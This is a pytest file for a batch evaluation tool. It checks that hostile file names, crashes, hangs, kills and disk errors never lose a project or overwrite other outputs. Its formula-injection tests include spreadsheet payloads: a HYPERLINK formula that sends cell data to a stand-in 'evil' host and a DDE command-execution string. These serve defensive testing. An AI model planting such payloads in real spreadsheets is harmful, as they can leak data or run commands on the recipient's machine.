"""A round never loses a project or touches another project's outputs: hostile names, kills, hangs, crashes.

Most tests here replace the per-project work (``batch.run_one``) in the forked
workers with something that hangs, crashes or returns at once, so the batch's
supervision is tested without kernels; the few that need real kernels run the
small seed 001. None depends on timing beyond generous limits.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import EXAMPLES, ROOT
from evalkit.outputs import atomic
from evalkit.runs import batch
from evalkit.inputs import names
from evalkit.runs.batch import FAILED, OK, Outcome, refused_names, run_round
from evalkit.cli import main
from evalkit.core.errors import InputError
from evalkit.outputs.roundreport import safe_text
from evalkit.runs.runner import output_dir

WORKBOOK = ROOT / "workbooks" / "project_evaluation.ipynb"
SEED = (EXAMPLES / "001_futian_ai_centre.yaml").read_text(encoding="utf-8")


def seed_round(folder: Path, stems: list[str]) -> Path:
    folder.mkdir(parents=True)
    shutil.copytree(EXAMPLES / "data", folder / "data")
    for stem in stems:
        (folder / f"{stem}.yaml").write_text(SEED, encoding="utf-8")
    return folder


# --- names ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", [
    "", ".", "..", ".a.old-999999", ".hidden", "index.html", "INDEX.HTML", "summary.csv", "round.json",
    "javascript:alert(1)", "a/b", "a\\b", "CON", "nul.txt", "com1", "trailing.", "trailing ", " leading",
    "tab\there", "cr\rhere", "nl\nhere", "a" * 101, "x<y", 'q"uote', "pipe|", "star*", "what?",
    "bidi\u202etxt", "zero\u200bwidth",
])
def test_names_that_cannot_be_output_folders(name):
    assert names.name_problem(name) is not None


@pytest.mark.parametrize("name", ["001_futian", "福田区人工智能中心", "p-01 (2)", "=HYPERLINK(1)", "a.b", "项目（一）"])
def test_ordinary_names_pass(name):
    assert names.name_problem(name) is None


def test_output_dir_refuses_a_hostile_params_name(tmp_path):
    for stem in ("..", ".x.tmp-1", "index.html"):
        with pytest.raises(InputError) as caught:
            output_dir(tmp_path / "outputs", tmp_path / "r" / f"{stem}.yaml")
        assert "文件名" in str(caught.value)


def test_collisions_name_both_files(tmp_path):
    projects = [tmp_path / "Alpha.yaml", tmp_path / "alpha.yml", tmp_path / "beta.yaml", tmp_path / "..yaml"]
    refused = refused_names(projects)
    assert set(refused) == {str(tmp_path / "Alpha.yaml"), str(tmp_path / "alpha.yml"), str(tmp_path / "..yaml")}
    assert "Alpha.yaml、alpha.yml" in refused[str(tmp_path / "alpha.yml")]


def test_tidy_touches_only_its_own_temporaries(tmp_path):
    folder = tmp_path / "round"
    (folder / "a").mkdir(parents=True)
    (folder / "a" / "manifest.json").write_text("{}")
    dead = next(pid for pid in range(4_000_000, 3_000_000, -1) if not Path(f"/proc/{pid}").exists())
    for leftover in (f".a.tmp-{dead}", f".b.old-{dead}", f".a.old-{dead}x", f".{'..'}.old-{dead}", "keep.tmp-1"):
        (folder / leftover).mkdir()
    (folder / f".c.old-{dead}").mkdir()
    (folder / f".c.old-{dead}" / "manifest.json").write_text("{}")
    (folder / f".a.tmp-{dead}.yaml").write_text("a file, not ours")
    # decoys with a project's name and a dead pid, but holding someone's own files
    for decoy in (f".a.verify-{dead}", f".a.old-{dead}", f".a.tmp-{2**22 + 1}"):
        (folder / decoy).mkdir()
        (folder / decoy / "manifest.json").write_text("{}")
        (folder / decoy / "notes.txt").write_text("mine")
    (folder / f".a.tmp-{2**22 + 1}" / "notes.txt").unlink()  # only ours inside, but no such pid can exist
    atomic.tidy(folder, ["a", "c"])
    left = sorted(p.name for p in folder.iterdir())
    # a's temporary removed; c's old outputs restored; b is not a project of this round; the rest is not ours
    assert left == sorted(["a", "c", f".b.old-{dead}", f".a.old-{dead}x", f"..{'.'}.old-{dead}",
                           "keep.tmp-1", f".a.tmp-{dead}.yaml", f".a.verify-{dead}", f".a.old-{dead}",
                           f".a.tmp-{2**22 + 1}"])
    assert (folder / f".a.old-{dead}" / "notes.txt").read_text() == "mine"


def test_hostile_names_in_a_round_touch_nothing_else(tmp_path, capsys):
    """`..yaml` and friends fail with their reason; a neighbour's outputs and the round pages survive."""
    folder = seed_round(tmp_path / "params" / "r", ["ok"])
    for stem in ("..", "index.html", ".a.old-999999", "javascript:alert(1)", "Dup", "dup"):
        (folder / f"{stem}.yaml").write_text(SEED, encoding="utf-8")
    out = tmp_path / "outputs"
    neighbour = out / "r" / "earlier"
    neighbour.mkdir(parents=True)
    (neighbour / "appendix.html").write_text("an earlier project's appendix", encoding="utf-8")
    status = main(["batch", str(folder), "--outputs", str(out), "-j", "2", "--workbook", str(WORKBOOK)])
    text = capsys.readouterr()
    assert status == 1, text
    assert (neighbour / "appendix.html").read_text(encoding="utf-8") == "an earlier project's appendix"
    assert (out / "r" / "ok" / "appendix.html").is_file()
    assert sorted(p.name for p in (out / "r").iterdir()) == sorted(
        ["earlier", "ok", "index.html", "summary.csv", "summary.xlsx", "round.json"])
    document = json.loads((out / "r" / "round.json").read_text(encoding="utf-8"))
    statuses = {p["params"]: p["status"] for p in document["projects"]}
    assert statuses.pop("ok.yaml") == "ok" and set(statuses.values()) == {"failed"} and len(statuses) == 6
    index = (out / "r" / "index.html").read_text(encoding="utf-8")
    assert 'href="./ok/appendix.html"' in index and 'href="javascript' not in index
    hrefs = re.findall(r'<a[^>]* href="([^"]*)"', index)
    # one project has an appendix (its name, its failed checks link into it); the rest are the round's own files
    assert [h for h in hrefs if h.split("#")[0] == "./ok/appendix.html"][0] == "./ok/appendix.html"
    assert {h for h in hrefs if "appendix" not in h} == {"summary.xlsx", "summary.csv", "round.json", "#p1"}
    assert all(h.startswith(("./ok/appendix.html", "#p")) for h in hrefs if "appendix" in h or h.startswith("#"))


# --- formula injection ---------------------------------------------------------------------------

def test_safe_text_neutralises_formula_starts():
    for dangerous in ("=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1"):
        assert safe_text(dangerous).startswith("'")
    assert safe_text("福田区项目") == "福田区项目" and safe_text("") == ""


def test_round_summaries_keep_hostile_text_as_text(tmp_path):
    from openpyxl import load_workbook

    from evalkit.runs.batch import RoundRun
    from evalkit.outputs.roundreport import write_round

    round_out = tmp_path / "outputs" / "r"
    projects = []
    hostile = ['=HYPERLINK("http://evil/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\r=1+1"]
    for i, text in enumerate(hostile):
        params = tmp_path / "params" / "r" / f"p{i}.yaml"
        projects.append(params)
        (round_out / f"p{i}").mkdir(parents=True)
        (round_out / f"p{i}" / "results.json").write_text(json.dumps(
            {"project": {"id": text, "name": text}, "total_score": "-1.50" if i == 2 else "88.00", "grade": "良",
             "checks_failed": 0}, ensure_ascii=False), encoding="utf-8")
    run = RoundRun("r", round_out, tuple(Outcome(str(p), OK, 1.0) for p in projects), 2.0, projects=len(projects))
    write_round(run, projects, tmp_path / "outputs")
    rows = list(csv.reader(io.StringIO((round_out / "summary.csv").read_bytes().decode("utf-8-sig"), newline="")))
    for row, text in zip(rows[1:], hostile):
        assert row[2] == "'" + text
        # an id is a string literal for Excel (="…", quotes doubled): shown as text, never evaluated;
        # one that cannot be a literal (a line break) is neutralised like any other text
        assert row[1] == ('="' + text.replace('"', '""') + '"' if "\r" not in text else "'" + text)
    assert rows[3][3] == "-1.50"  # a number stays a number
    assert b"<f>" not in zipfile.ZipFile(round_out / "summary.xlsx").read("xl/worksheets/sheet1.xml")  # no formula
    sheet = load_workbook(round_out / "summary.xlsx").active
    for r, text in zip(range(2, 2 + len(hostile)), hostile):
        for col in "BC":  # a string cell is text to every spreadsheet: shown as typed, no visible apostrophe
            cell = sheet[f"{col}{r}"]
            assert cell.data_type == "s" and str(cell.value) == text, (cell.coordinate, cell.value)
    assert sheet["D4"].value == -1.5 and sheet["D4"].data_type == "n"


# --- supervision without kernels -----------------------------------------------------------------

def fake_projects(tmp_path: Path, stems: list[str]) -> Path:
    folder = tmp_path / "params" / "fake"
    folder.mkdir(parents=True)
    for stem in stems:
        (folder / f"{stem}.yaml").write_text("project: {id: x, name: x}\n", encoding="utf-8")
    return folder


def behaviour(params: str, outputs_root: str, workbook: str, warm: bool = True, timeout=None) -> Outcome:
    """Stands in for run_one in the forked workers: the params file's name says what to do."""
    stem = Path(params).stem
    if stem.startswith("hang"):
        time.sleep(3600)
    if stem.startswith("crash"):
        import faulthandler

        faulthandler.disable()  # pytest's dump of a deliberate crash is noise here
        os.kill(os.getpid(), signal.SIGSEGV)
    if stem.startswith("flaky"):
        marker = Path(params).with_suffix(".died")
        if not marker.exists():
            marker.write_text("once")
            os.kill(os.getpid(), signal.SIGKILL)
    return Outcome(params, OK, 0.01, total="90.00", grade="优")


@pytest.fixture
def fake_work(monkeypatch):
    monkeypatch.setattr(batch, "run_one", behaviour)
    monkeypatch.setattr(batch, "TIMEOUT_GRACE", 0.5)
    monkeypatch.setattr(batch.manifest, "up_to_date", lambda *a: False)


def test_a_hanging_project_times_out_and_the_round_goes_on(tmp_path, fake_work):
    folder = fake_projects(tmp_path, ["a", "b", "hang", "c", "d"])
    run = run_round(folder, outputs_root=tmp_path / "out", jobs=2, workbook=WORKBOOK, timeout=2)
    status = {Path(o.params).stem: o.status for o in run.outcomes}
    assert status == {"a": OK, "b": OK, "hang": FAILED, "c": OK, "d": OK}
    assert "超过时限 2 秒" in run.failed[0].error and "--timeout" in run.failed[0].error


def test_a_crashing_project_is_retried_once_then_failed_alone(tmp_path, fake_work):
    folder = fake_projects(tmp_path, ["a", "crash", "flaky", "b"])
    run = run_round(folder, outputs_root=tmp_path / "out", jobs=2, workbook=WORKBOOK, timeout=60)
    status = {Path(o.params).stem: o.status for o in run.outcomes}
    assert status == {"a": OK, "crash": FAILED, "flaky": OK, "b": OK}  # flaky died once (killed), then ran
    assert "被信号 11 终止" in run.failed[0].error and "重试后仍然如此" in run.failed[0].error


def test_many_projects_none_lost(tmp_path, fake_work):
    stems = [f"p{i:03d}" for i in range(60)] + ["crash1", "hang1"]
    folder = fake_projects(tmp_path, stems)
    run = run_round(folder, outputs_root=tmp_path / "out", jobs=4, workbook=WORKBOOK, timeout=2)
    assert len(run.outcomes) == len(stems)
    assert sorted(Path(o.params).stem for o in run.failed) == ["crash1", "hang1"]


# --- kernels -------------------------------------------------------------------------------------

def test_readiness_accepts_a_late_reply_to_an_earlier_request():
    """On a busy machine the first kernel_info reply arrives after the client has asked again."""
    import asyncio
    from queue import Empty

    from evalkit.runs.warmkernel import _quick_client_class

    class Channel:
        def __init__(self, script):
            self.script = script

        async def get_msg(self, timeout=None):
            item = self.script.pop(0) if self.script else None
            if item is None:
                raise Empty
            return item() if callable(item) else item

    sent: list[str] = []
    handled: list[dict] = []
    # Shell: nothing for the first two waits, then the reply to the FIRST request only.
    shell = Channel([None, None, lambda: {"parent_header": {"msg_id": "req-0"}, "content": {}}])
    iopub = Channel([lambda: {"parent_header": {"msg_id": "req-0"}, "msg_type": "status"}, None])

    class SlowKernel(_quick_client_class()):
        shell_channel = property(lambda self: shell)
        iopub_channel = property(lambda self: iopub)

        def kernel_info(self):
            sent.append(f"req-{len(sent)}")
            return sent[-1]

        async def is_alive(self):
            return True

        def _handle_kernel_info_reply(self, reply):
            handled.append(reply)

    asyncio.run(SlowKernel().wait_for_ready(timeout=30))
    assert handled and handled[0]["parent_header"]["msg_id"] == "req-0" and len(sent) == 3


def test_kernel_output_to_stdout_cannot_fill_a_pipe(tmp_path):
    """A kernel writing far more than a pipe holds to its stdout must not block (the factory's pipe is unread)."""
    import asyncio

    from evalkit.runs.warmkernel import KernelFactory, factory_kernel_manager_class

    async def write_a_lot(address: str) -> list[str]:
        km = factory_kernel_manager_class(address)()
        await km.start_kernel(cwd=str(tmp_path))
        kc = km.client()
        kc.start_channels()
        try:
            await kc.wait_for_ready(timeout=120)
            statuses = []
            for _ in range(3):  # 3 × 256 KiB to the raw file descriptor: four times what a Linux pipe holds
                reply = await kc.execute_interactive("import os; os.write(1, b'x' * 262144)", timeout=120,
                                                     output_hook=lambda msg: None)
                statuses.append(reply["content"]["status"])
            return statuses
        finally:
            kc.stop_channels()
            await km.shutdown_kernel(now=True)

    factory = KernelFactory()
    try:
        assert asyncio.run(write_a_lot(factory.address)) == ["ok", "ok", "ok"]
    finally:
        factory.close()


# --- kills ---------------------------------------------------------------------------------------

def descendants(root: int) -> set[int]:
    """All live descendants of a process (Linux /proc)."""
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat", encoding="ascii", errors="replace") as handle:
                    parents[int(entry)] = int(handle.read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
    found, stack = set(), [root]
    while stack:
        pid = stack.pop()
        for child, parent in parents.items():
            if parent == pid and child not in found:
                found.add(child)
                stack.append(child)
    return found


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def start_batch(folder: Path, out: Path, *extra: str) -> subprocess.Popen:
    command = [sys.executable, "-m", "evalkit.cli", "batch", str(folder), "--outputs", str(out), "-j", "2",
               "--workbook", str(WORKBOOK), *extra]
    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd=ROOT)


def wait_for_lines(process: subprocess.Popen, marker: str, count: int) -> list[str]:
    lines = []
    for line in process.stdout:  # type: ignore[union-attr]
        lines.append(line)
        if sum(marker in x for x in lines) >= count:
            break
    return lines


def test_a_killed_kernel_factory_is_restarted_and_no_project_is_lost(tmp_path):
    folder = seed_round(tmp_path / "params" / "kf", [f"p{i:02d}" for i in range(8)])
    process = start_batch(folder, tmp_path / "out")
    lines = wait_for_lines(process, "已运行", 2)
    # the factory is the batch's own child running _serve (the kernels it forked share its command line)
    factories = [pid for pid in descendants(process.pid) if b"_serve" in Path(f"/proc/{pid}/cmdline").read_bytes()
                 and int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1]) == process.pid]
    assert len(factories) == 1, lines
    os.kill(factories[0], signal.SIGKILL)
    rest, _ = process.communicate(timeout=600)
    assert process.returncode == 0, "".join(lines) + rest
    document = json.loads((tmp_path / "out" / "kf" / "round.json").read_text(encoding="utf-8"))
    assert document["counts"]["ok"] == 8


def test_a_killed_batch_takes_its_workers_kernels_and_temporaries_with_it(tmp_path):
    folder = seed_round(tmp_path / "params" / "kb", [f"p{i:02d}" for i in range(12)])
    out = tmp_path / "out"
    process = start_batch(folder, out)
    wait_for_lines(process, "已运行", 2)
    family = descendants(process.pid)
    assert family  # workers, factory, shims, kernels
    os.kill(process.pid, signal.SIGKILL)
    process.wait(timeout=60)
    deadline = time.monotonic() + 120
    while any(alive(pid) for pid in family) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not [pid for pid in family if alive(pid)]
    leftovers = [p.name for p in (out / "kb").iterdir() if p.name.startswith(".")]
    assert leftovers == []
    for project in (p for p in (out / "kb").iterdir() if p.is_dir()):
        assert (project / "manifest.json").is_file()  # every folder that exists is complete
    rerun = run_round(folder, outputs_root=out, jobs=2, workbook=WORKBOOK)
    assert {o.status for o in rerun.outcomes} <= {"ok", "up_to_date"} and len(rerun.outcomes) == 12


# --- the environment: full disk, read-only outputs, a file where a folder should be ---------------

@pytest.mark.parametrize("code, words", [
    (28, "磁盘空间不足"),  # ENOSPC
    (30, "只读"),  # EROFS
    (13, "没有写入权限"),  # EACCES
])
def test_a_failed_write_keeps_the_last_good_outputs(tmp_path, monkeypatch, capsys, code, words):
    from evalkit.runs import runner

    folder = seed_round(tmp_path / "params" / "w", ["p"])
    out = tmp_path / "out"
    last_good = out / "w" / "p"
    last_good.mkdir(parents=True)
    (last_good / "appendix.html").write_text("last good", encoding="utf-8")

    def fail(*args, **kwargs):
        raise OSError(code, os.strerror(code), str(out / "w" / ".p.tmp-1" / "executed.ipynb"))

    monkeypatch.setattr(runner, "_execute", fail)
    status = main(["run", str(folder / "p.yaml"), "--outputs", str(out), "--workbook", str(WORKBOOK)])
    err = capsys.readouterr().err
    assert status == 1 and words in err and "上次的输出未改动" in err and "Traceback" not in err, err
    assert (last_good / "appendix.html").read_text(encoding="utf-8") == "last good"
    assert [p.name for p in (out / "w").iterdir()] == ["p"]  # the temporary folder is gone


def test_outputs_given_as_a_file(tmp_path, capsys):
    folder = seed_round(tmp_path / "params" / "f", ["p"])
    a_file = tmp_path / "outputs.txt"
    a_file.write_text("not a folder", encoding="utf-8")
    assert main(["run", str(folder / "p.yaml"), "--outputs", str(a_file)]) == 2
    assert "不是文件夹" in capsys.readouterr().err
    assert main(["batch", str(folder), "--outputs", str(a_file)]) == 2
    err = capsys.readouterr().err
    assert "不是文件夹" in err and "请报告" not in err
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "f").write_text("the round's folder is a file", encoding="utf-8")
    assert main(["batch", str(folder), "--outputs", str(tmp_path / "out")]) == 2
    assert "不是文件夹" in capsys.readouterr().err
    assert a_file.read_text(encoding="utf-8") == "not a folder"


def test_round_folder_given_as_a_file(tmp_path, capsys):
    a_file = tmp_path / "round.yaml"
    a_file.write_text("project: {}", encoding="utf-8")
    assert main(["batch", str(a_file)]) == 2
    assert "实际为文件" in capsys.readouterr().err


def test_a_symlinked_params_file_writes_into_its_own_round(tmp_path):
    other = tmp_path / "params" / "r2"
    other.mkdir(parents=True)
    (other / "y.yaml").write_text(SEED, encoding="utf-8")
    mine = tmp_path / "params" / "r1"
    mine.mkdir()
    (mine / "x.yaml").symlink_to(other / "y.yaml")
    assert output_dir(tmp_path / "out", mine / "x.yaml") == tmp_path / "out" / "r1" / "x"


def test_outputs_inside_the_params_folder_are_refused(tmp_path, capsys):
    """With --outputs params, a project called data.yaml would have replaced the data folder."""
    folder = seed_round(tmp_path / "params" / "r", ["data", "p"])
    before = sorted(p.name for p in (folder / "data").iterdir())
    assert main(["batch", str(folder), "--outputs", str(tmp_path / "params")]) == 2
    assert "重叠" in capsys.readouterr().err
    assert main(["run", str(folder / "p.yaml"), "--outputs", str(folder / "data")]) == 2
    assert sorted(p.name for p in (folder / "data").iterdir()) == before


# --- large data: parsed once, by the kernel ------------------------------------------------------

def test_large_data_is_left_to_the_kernel_with_the_same_outputs(tmp_path, monkeypatch):
    from evalkit.runs import runner

    folder = seed_round(tmp_path / "params" / "big", ["p"])
    normal = runner.run_project(folder / "p.yaml", outputs_root=tmp_path / "a", workbook=WORKBOOK)
    monkeypatch.setattr(runner, "PRECHECK_MAX_DATA_BYTES", 0)  # every data file counts as large
    monkeypatch.setattr(runner, "evaluate", None, raising=False)  # and nothing is evaluated in process
    large = runner.run_project(folder / "p.yaml", outputs_root=tmp_path / "b", workbook=WORKBOOK)
    assert (large.total, large.grade) == (normal.total, normal.grade) == ("97.20", "优")
    for name in ("appendix.html", "results.json", "manifest.json"):
        assert (large.out_dir / name).read_bytes() == (normal.out_dir / name).read_bytes(), name


def test_bad_large_data_is_reported_like_bad_small_data(tmp_path, monkeypatch, capsys):
    from evalkit.runs import runner

    case = ROOT / "tests" / "bad_inputs" / "49_non_numeric_cell.yaml"
    assert main(["run", str(case), "--outputs", str(tmp_path / "a"), "--workbook", str(WORKBOOK)]) == 2
    small = capsys.readouterr().err
    monkeypatch.setattr(runner, "PRECHECK_MAX_DATA_BYTES", 0)
    assert main(["run", str(case), "--outputs", str(tmp_path / "b"), "--workbook", str(WORKBOOK)]) == 2
    large = capsys.readouterr().err
    assert large == small and "Traceback" not in large
    assert not (tmp_path / "b").exists() or not any((tmp_path / "b").rglob("appendix.html"))


def test_non_utf8_file_names_are_refused_alone(tmp_path):
    folder = seed_round(tmp_path / "params" / "u", [])
    bad = os.fsdecode(b"bad\xffbyte.yaml")
    (folder / bad).write_text(SEED, encoding="utf-8")
    projects = [folder / bad]
    refused = refused_names(projects)
    assert "不是有效的 UTF-8" in refused[str(folder / bad)] and "\\xff" in refused[str(folder / bad)]
    refused[str(folder / bad)].encode("utf-8")  # printable and writable


def test_numbers_written_in_yaml_11_bases_are_refused_or_text(tmp_path):
    """0110 and 0x5A are numbers in both YAML versions but different ones: refused; 1:30 and 0b11 are 1.2 text."""
    from evalkit.inputs.yamlio import load_yaml

    path = tmp_path / "p.yaml"
    for text in ("0110", "0x5A", "0o17"):
        path.write_text(f"value: {text}\n", encoding="utf-8")
        with pytest.raises(InputError, match="八进制|十六进制"):
            load_yaml(path)
    path.write_text("value: 110\nother: 0\ntime: 1:30\nbits: 0b11\n", encoding="utf-8")
    assert load_yaml(path) == {"value": 110, "other": 0, "time": "1:30", "bits": "0b11"}


def test_swap_in_replaces_a_symlink_without_following_it(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep")
    final = tmp_path / "round" / "p"
    final.parent.mkdir()
    final.symlink_to(victim)
    tmp = final.with_name(".p.tmp-1")
    tmp.mkdir()
    (tmp / "appendix.html").write_text("new")
    atomic.swap_in(tmp, final)
    assert not final.is_symlink() and (final / "appendix.html").read_text() == "new"
    assert (victim / "keep.txt").read_text() == "keep" and sorted(p.name for p in final.parent.iterdir()) == ["p"]
